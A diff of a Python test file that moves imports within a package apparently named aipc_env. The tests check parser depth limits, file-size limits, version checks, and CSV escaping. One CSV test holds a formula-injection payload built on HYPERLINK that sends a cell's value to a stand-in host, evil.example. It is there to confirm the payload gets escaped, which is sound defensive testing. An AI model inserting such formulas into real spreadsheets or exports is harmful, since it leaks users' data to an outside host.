@@ -25,7 +25,7 @@ def _nested_yaml(depth: int) -> str:
 
 @pytest.mark.parametrize("parse, nested", [("parse_json", _nested_json), ("parse_yaml", _nested_yaml)])
 def test_depth_at_below_and_above_the_bound(parse, nested):
-    from aipc_env import fileio
+    from aipc_env.core import fileio
     from aipc_env.errors import InputError
 
     parser = getattr(fileio, parse)
@@ -38,7 +38,7 @@ def test_depth_at_below_and_above_the_bound(parse, nested):
 
 @pytest.mark.parametrize("parse, nested", [("parse_json", _nested_json), ("parse_yaml", _nested_yaml)])
 def test_nesting_past_the_recursion_limit_is_a_named_error(parse, nested):
-    from aipc_env import fileio
+    from aipc_env.core import fileio
     from aipc_env.errors import InputError
 
     with pytest.raises(InputError, match="nested deeper"):
@@ -46,7 +46,7 @@ def test_nesting_past_the_recursion_limit_is_a_named_error(parse, nested):
 
 
 def test_yaml_alias_expansion_bound(monkeypatch):
-    from aipc_env import fileio
+    from aipc_env.core import fileio
     from aipc_env.errors import InputError
 
     monkeypatch.setattr(fileio, "MAX_YAML_NODES", 10)
@@ -97,8 +97,8 @@ def test_cycle_finder_agrees_on_small_graphs():
 
 
 def test_file_size_bound(tmp_path):
+    from aipc_env.core.fileio import read_text
     from aipc_env.errors import InputError
-    from aipc_env.fileio import read_text
 
     path = tmp_path / "f.json"
     for size in (1023, 1024):
@@ -122,7 +122,7 @@ def test_a_deep_report_is_one_unreadable_row_and_the_rest_are_read(tmp_path):
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_csv_cells_never_start_a_formula(start):
-    from aipc_env.tabular import csv_text, safe_cell
+    from aipc_env.fleet.tabular import csv_text, safe_cell
 
     payload = start + 'HYPERLINK("http://evil.example/?"&A1,"x")'
     assert safe_cell(payload) == "'" + payload
@@ -178,7 +178,7 @@ def test_a_malformed_python_is_a_usage_error(tmp_path, argv, python):
 
 
 def test_python_minor_bounds():
-    from aipc_env.specs import check_python_minor
+    from aipc_env.core.specs import check_python_minor
 
     assert [check_python_minor(v) for v in ("3.8", "3.12", "3.99", " 3.13 ")] == ["3.8", "3.12", "3.99", "3.13"]
     for bad in ("3.7", "3.100", "3.x", "", "3.12.0", "2.7"):
@@ -332,7 +332,7 @@ def test_distill_init_refuses_to_overwrite_and_writes_paths_as_typed(tmp_path):
 @pytest.mark.parametrize("parse, doc", [("parse_json", "[{}]"), ("parse_yaml", "[{}]\n"), ("parse_toml", "a = {}\n")])
 @pytest.mark.parametrize("digits, ok", [(4299, True), (4300, True), (4301, False), (5000, False)])
 def test_a_number_past_the_digit_limit_is_a_named_error(tmp_path, parse, doc, digits, ok):
-    from aipc_env import fileio
+    from aipc_env.core import fileio
     from aipc_env.errors import InputError
 
     text = doc.replace("{}", "1" * digits)
@@ -488,8 +488,8 @@ def test_a_model_index_with_a_long_grid_is_quoted_in_a_few_values(tmp_path):
     ("g2", ("teacher_max_abs_diff",), [1], "Input should be a valid number"),
 ])
 def test_a_verdict_with_string_metrics_is_a_named_error_not_a_crash(tmp_path, stage, key, value, message):
+    from aipc_env.core.formats import load_versioned
     from aipc_env.distill.verdict import Verdict
-    from aipc_env.formats import load_versioned
 
     metrics = {"g3": {"metric": "psnr", "metric_note": "n", "mean": {"student": {"mse": 1.0, "psnr": 2.0},
                                                                       "naive": {"mse": 1.0, "psnr": 2.0}}},
